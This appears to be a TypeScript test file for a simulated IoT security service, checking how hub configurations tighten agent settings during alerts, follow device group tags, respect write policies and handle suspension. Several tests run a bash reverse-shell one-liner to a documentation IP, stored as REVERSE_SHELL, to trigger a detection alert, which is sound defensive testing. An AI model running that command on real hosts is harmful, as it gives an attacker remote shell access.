import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { after, afterEach, before, test } from 'node:test'
import {
  EARLY_CONFIGURATION_KEY,
  LEGACY_CONFIGURATION_KEY,
  writeConfiguration,
} from '@twinward/protocol'
import { createDevice } from '../agents/lookup.ts'
import { connect, type View } from '../agents/module-client.ts'
import { startTestServer, type TestServer, until } from '../server.ts'

// Settings of security agents by automatic configurations of the hub: what agents are told, what is
// left when a module is no target any more, and that hub and security service do not write in turns.

const MODULE = 'azureiotsecurity'
const MICRO = 'DefenderIotMicroAgent'
const STRICT = new URL('../../../../examples/strict-while-alerted.json', import.meta.url)
const REVERSE_SHELL = 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'

let server: TestServer
before(async () => {
  server = await startTestServer()
})
after(() => server[Symbol.asyncDispose]())
afterEach(async () => {
  for (const { id } of (await server.call('GET', '/configurations')).body) {
    await server.call('DELETE', `/configurations/${id}`)
  }
})

test('strict-while-alerted.json: applies itself while a high alert is open, and leaves with it', async () => {
  await change('/api/security/config', { highPriorityMessageFrequency: 'PT2M' })
  await using agent = await connect(server, 'fleet-1')
  await put('strict', JSON.parse(readFileSync(STRICT, 'utf8')))
  const before = await agent.twin(({ tags, properties: { desired } }) => {
    const object = desired[LEGACY_CONFIGURATION_KEY]
    return tags.posture?.openAlerts && object.highPriorityMessageFrequency.value === 'PT2M'
  })
  assert.deepEqual(before.tags.posture.openAlerts, { high: 0, medium: 0, low: 0 })
  const version = before.properties.desired.$version
  agent.told.splice(0)

  await agent.run(REVERSE_SHELL)
  const [strict] = await agent.hears(version + 1)
  const told = strict[LEGACY_CONFIGURATION_KEY]
  const complete = writeConfiguration(
    {
      snapshotFrequency: 'PT10M',
      highPriorityMessageFrequency: 'PT1M',
      lowPriorityMessageFrequency: 'PT10M',
      eventPriorityProcessCreate: 'High',
      eventPriorityConnectionCreate: 'High',
      aggregationEnabledProcessCreate: false,
      aggregationEnabledConnectionCreate: false,
    },
    'legacy',
  )
  assert.deepEqual(told, complete[LEGACY_CONFIGURATION_KEY], 'all that there is')
  // Everybody who might write has seen it: the posture's writer, and who carries layers to twins.
  await agent.twin(({ tags }) => tags.config?.desiredVersion === version + 1)
  await agent.history(({ by, changes }) => by === 'twin write' && says(changes, 'PT10M'))
  const during = await agent.twin(({ configurations }) => configurations?.strict)
  assert.deepEqual(during.configurations.strict, { status: 'Applied' })
  assert.equal(during.tags.posture.openAlerts.high, 1)
  assert.equal(during.properties.desired.$version, version + 1)
  const config = '/api/devices/fleet-1/security/config'
  const { effective } = (await server.call('GET', config)).body
  const source = { source: 'configuration', configuration: 'strict' }
  assert.deepEqual(effective.snapshotFrequency, { value: 'PT10M', ...source })

  // A layer changes meanwhile: the service writes the whole object, what is strict in it as it is.
  const layer = { eventPriorityLogin: 'Low', snapshotFrequency: 'PT1H' }
  await change('/api/security/config', layer)
  const [layered] = await agent.hears(version + 2)
  assert.equal(layered[LEGACY_CONFIGURATION_KEY].snapshotFrequency.value, 'PT10M')
  assert.equal(layered[LEGACY_CONFIGURATION_KEY].eventPriorityLogin.value, 'Low')

  const { body } = await server.call('GET', '/api/security/alerts?device=fleet-1&severity=High')
  const path = `/api/security/alerts/${body.items[0].id}`
  assert.equal((await server.call('PATCH', path, { body: { status: 'Resolved' } })).status, 200)
  await agent.hears(version + 4)
  const after = await agent.twin(({ properties: { desired } }) => {
    return desired[LEGACY_CONFIGURATION_KEY].snapshotFrequency?.value === 'PT1H'
  })
  const object = after.properties.desired[LEGACY_CONFIGURATION_KEY]
  assert.equal(object.highPriorityMessageFrequency.value, 'PT2M', 'as the hub’s layer says')
  assert.equal(object.eventPriorityLogin.value, 'Low')
  assert.equal(object.eventPriorityProcessCreate.value, 'Low', 'the default')
  assert.equal('configurations' in after, false)
  await agent.twin(({ tags }) => tags.config.desiredVersion === version + 4)
  const end = await agent.twin()
  // Strict, the layer, back, and what the layer says of what went.
  assert.equal(end.properties.desired.$version, version + 4)
  assert.deepEqual(end.tags.posture.openAlerts, { high: 0, medium: 0, low: 0 })
  const names = ['eventPriorityLogin', 'snapshotFrequency', 'highPriorityMessageFrequency']
  await change('/api/security/config', Object.fromEntries(names.map((name) => [name, null])))
  await until(async () => (await server.call('GET', '/api/security/config')).body.rollout.isDone)
})

test('a group’s settings, in the shape of each era, come and go with the tag of the device', async () => {
  const eras = [
    { era: 'legacy', deviceId: 'yard-1', module: MODULE },
    { era: 'early', deviceId: 'yard-2', module: MODULE },
    { era: 'micro', deviceId: 'yard-3', module: MICRO },
  ] as const
  const shapes = {
    legacy: { key: LEGACY_CONFIGURATION_KEY, value: { value: 'PT20M' } },
    early: { key: EARLY_CONFIGURATION_KEY, value: 'PT20M' },
  }
  await createDevice(server, 'yard-2', MODULE)
  const desired = writeConfiguration({}, 'early')
  const made = await server.call('PUT', `/twins/yard-2/modules/${MODULE}`, {
    body: { properties: { desired } },
  })
  assert.equal(made.status, 200)
  for (const { era } of eras) {
    const settings = era === 'micro' ? { Process_Mode: 2 } : { snapshotFrequency: 'PT20M' }
    await put(`yard-${era}`, await fleetConfiguration({ settings, era, group: 'Yard' }))
  }
  for (const { era, deviceId, module } of eras) {
    await using agent = await connect(server, deviceId, module)
    const before = await agent.twin(({ tags }) => tags.posture?.era === era)
    assert.equal(before.tags.posture.group, 'default')
    const version = before.properties.desired.$version
    agent.told.splice(0)
    await tagDevice(deviceId, { SecurityGroup: 'YARD' })
    const [joined] = await agent.hears(version + 1)
    const during = await agent.twin(({ tags }) => tags.posture.group === 'yard')
    assert.deepEqual(during.configurations, { [`yard-${era}`]: { status: 'Applied' } })
    await tagDevice(deviceId, { SecurityGroup: null })
    const [left] = await agent.hears(version + 2)
    if (era === 'micro') {
      assert.deepEqual(joined, { Process_Mode: 2, $version: version + 1 })
      assert.deepEqual(left, { Process_Mode: null, $version: version + 2 })
    } else {
      const { key, value } = shapes[era]
      const all = before.properties.desired[key]
      const { snapshotFrequency: _, ...others } = all
      assert.deepEqual(joined, {
        [key]: { ...all, snapshotFrequency: value },
        $version: version + 1,
      })
      const rest = { ...others, snapshotFrequency: null }
      assert.deepEqual(left, { [key]: rest, $version: version + 2 })
    }
    const after = await agent.twin(({ tags }) => tags.config.desiredVersion === version + 2)
    assert.deepEqual(
      [after.tags.posture.group, after.properties.desired.$version, 'configurations' in after],
      ['default', version + 2, false],
    )
  }
})

test('a security module that does not speak for its device has the settings of its group all the same', async () => {
  await createDevice(server, 'yard-4', MICRO)
  await tagDevice('yard-4', { SecurityGroup: 'yard' })
  const settings = { Process_Mode: 3 }
  await put('yard', await fleetConfiguration({ settings, era: 'micro', group: 'yard' }))
  await using agent = await connect(server, 'yard-4')
  await agent.run(REVERSE_SHELL)
  await agent.twin(({ tags }) => tags.posture?.openAlerts?.high === 1)
  const twin = await until(async () => {
    const { body } = await server.call('GET', `/twins/yard-4/modules/${MICRO}`)
    return body.properties.desired.Process_Mode === 3 && body
  })
  assert.deepEqual(twin.tags, { posture: { group: 'yard', era: 'micro' } })
})

test('settings that let an agent run code: the configuration of a policy without RegistryWrite is refused', async () => {
  await createDevice(server, 'yard-5', MODULE)
  await tagDevice('yard-5', { SecurityGroup: 'custom' })
  const settings = {
    baselineCustomChecksEnabled: true,
    baselineCustomChecksFilePath: '/opt/checks.xml',
    baselineCustomChecksFileHash: 'a'.repeat(64),
    snapshotFrequency: 'PT3H',
  }
  const document = await fleetConfiguration({ settings, group: 'custom' })
  const path = `/twins/yard-5/modules/${MODULE}`
  const outcome = (policy: string) =>
    until(async () => {
      const { configurations, properties } = (await server.call('GET', path)).body
      const object = properties.desired[LEGACY_CONFIGURATION_KEY]
      const status = configurations?.[policy.toLowerCase()]
      return status && { status, object }
    })
  await put('service', document, 'service')
  const refused = await outcome('service')
  assert.equal(refused.status.status, 'Targeted')
  for (const name of Object.keys(settings).slice(0, 3)) {
    assert.match(refused.status.error, new RegExp(name))
    assert.equal(name in refused.object, false)
  }
  assert.equal(refused.object.snapshotFrequency.value, 'PT13H', 'all of it or nothing')
  for (const policy of ['registryReadWrite', 'iothubowner']) {
    await server.call('DELETE', '/configurations/service')
    await put(policy.toLowerCase(), document, policy)
    const { status, object } = await outcome(policy)
    assert.deepEqual(status, { status: 'Applied' })
    assert.equal(object.baselineCustomChecksFilePath.value, '/opt/checks.xml')
    await server.call('DELETE', `/configurations/${policy.toLowerCase()}`)
    await until(async () => !(await server.call('GET', path)).body.configurations)
  }
})

test('the route for fleets: every mistake named, warnings beside the content', async () => {
  const wrong = await server.call('POST', '/api/security/config/fleet', {
    body: { settings: { snapshotFrequenzy: 'PT1H', eventPriorityLogin: 'Loud' } },
  })
  assert.equal(wrong.status, 400)
  assert.match(wrong.body.Message, /snapshotFrequenzy.*snapshotFrequency.*eventPriorityLogin/s)
  const odd = { highPriorityMessageFrequency: 'P2D', lowPriorityMessageFrequency: 'PT1H' }
  const { status, body } = await server.call('POST', '/api/security/config/fleet', {
    body: { settings: odd },
    policy: 'service',
  })
  assert.equal(status, 200)
  assert.equal(body.warnings.length > 0, true)
})

test('an agent that is suspended while it is strict is switched off, and afterwards as before', async () => {
  const strict = JSON.parse(readFileSync(STRICT, 'utf8'))
  await put('strict', strict)
  await using agent = await connect(server, 'fleet-2')
  await agent.run(REVERSE_SHELL)
  const isStrict = ({ properties: { desired } }: View) =>
    desired[LEGACY_CONFIGURATION_KEY].eventPriorityProcessCreate?.value === 'High'
  await agent.twin(isStrict)
  const path = '/api/devices/fleet-2/security'
  const suspended = await server.call('POST', `${path}/suspend`, { body: {} })
  assert.equal(suspended.status, 200, JSON.stringify(suspended.body))
  const off = await agent.twin(({ configurations }) => configurations === undefined)
  const object = off.properties.desired[LEGACY_CONFIGURATION_KEY]
  assert.equal(object.eventPriorityProcessCreate.value, 'Off')
  assert.equal('snapshotFrequency' in object, false, 'though the service wrote the whole object')
  await server.call('DELETE', '/configurations/strict')
  assert.equal((await server.call('POST', `${path}/resume`)).status, 200)
  const { effective } = (await server.call('GET', `${path}/config`)).body
  assert.deepEqual(effective.eventPriorityProcessCreate, { value: 'Low', source: 'default' })
  assert.deepEqual(effective.eventPriorityLogin, { value: 'High', source: 'default' })
})

/** Puts a configuration into force, as a policy. */
async function put(id: string, body: object, policy = 'iothubowner') {
  const answer = await server.call('PUT', `/configurations/${id}`, { body, policy })
  assert.equal(answer.status, 200, JSON.stringify(answer.body))
}

async function change(path: string, settings: object) {
  const { status, body } = await server.call('PATCH', path, { body: { settings } })
  assert.equal(status, 200, JSON.stringify(body))
}

function says(changes: readonly { readonly new: unknown }[], value: unknown): boolean {
  return changes.some((each) => each.new === value)
}

/** A document to be put, as `POST /api/security/config/fleet` answers it. */
async function fleetConfiguration(settings: object): Promise<object> {
  const { status, body } = await server.call('POST', '/api/security/config/fleet', {
    body: settings,
  })
  assert.equal(status, 200, JSON.stringify(body))
  const { content, targetCondition } = body
  return { content, targetCondition }
}

async function tagDevice(deviceId: string, tags: object): Promise<void> {
  const { status } = await server.call('PATCH', `/twins/${deviceId}`, { body: { tags } })
  assert.equal(status, 200)
}
